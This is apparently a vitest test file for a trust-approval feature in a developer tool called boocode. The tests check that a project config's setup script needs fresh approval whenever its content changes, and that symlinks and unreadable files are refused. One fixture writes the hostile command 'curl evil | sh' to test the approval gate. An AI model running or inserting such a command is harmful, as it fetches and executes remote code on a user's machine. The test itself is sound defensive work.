import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Project } from '@boocode/contracts/project.ts';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createTestDatabase, type TestDatabase } from '../db/testing.ts';
import { insertProject } from '../projects/project-store.ts';
import { readTrusted, trustHandlers } from './trusted-content.ts';
import { PROJECT_CONFIG } from './project-config.ts';

let database: TestDatabase;
let project: Project;
const folders: string[] = [];

beforeAll(async () => void (database = await createTestDatabase()));
afterAll(async () => {
  await database[Symbol.asyncDispose]();
  await Promise.all(folders.map((folder) => rm(folder, { recursive: true })));
});
beforeEach(async () => {
  const path = await mkdtemp(join(tmpdir(), 'boocode-trust-'));
  folders.push(path);
  ({ project } = await insertProject(database.sql, { path, name: 'Harbor' }));
  await mkdir(join(path, '.boocode'));
});

const bring = (content: string) => writeFile(join(project.path, PROJECT_CONFIG), content);
const read = () => readTrusted(database.sql, project, PROJECT_CONFIG);
const approve = async (hash: string, path: string = PROJECT_CONFIG) => {
  const request = { params: { id: project.id }, query: {}, body: { path, hash } };
  return trustHandlers(database).approveTrust?.(request as never);
};

describe('approveTrust', () => {
  it('holds for exactly the content that was seen; a change asks again, with what was approved before', async () => {
    await bring('{"setup":"npm ci"}');
    const first = await read();
    expect(first).toMatchObject({ trusted: false, script: 'npm ci', approvedContent: null });
    expect(await approve(first?.hash ?? '')).toMatchObject({ trusted: true, hash: first?.hash });
    expect(await read()).toMatchObject({ trusted: true, approvedContent: null });

    await bring('{"setup":"curl evil | sh"}');
    expect(await read()).toMatchObject({ trusted: false, script: 'curl evil | sh', approvedContent: '{"setup":"npm ci"}' });
    await expect(approve(first?.hash ?? '')).rejects.toMatchObject({ code: 'conflict' });
    expect(await read()).toMatchObject({ trusted: false });

    await bring('{"setup":"npm ci"}');
    expect(await read()).toMatchObject({ trusted: true });
  });

  it('knows no other files than those that have an effect, and follows no link', async () => {
    await bring('{}');
    await writeFile(join(project.path, 'README.md'), 'harbor');
    await expect(approve('0', 'README.md')).rejects.toMatchObject({ code: 'not_found' });
    await rm(join(project.path, PROJECT_CONFIG));
    await symlink(join(project.path, 'README.md'), join(project.path, PROJECT_CONFIG));
    expect(await read()).toMatchObject({ trusted: false, script: null });
    await expect(approve('')).rejects.toMatchObject({ code: 'conflict' });
  });

  it('runs nothing of a file that it cannot read', async () => {
    await bring('{"setup": "npm ci"');
    expect(await read()).toMatchObject({ trusted: false, script: null });
  });
});
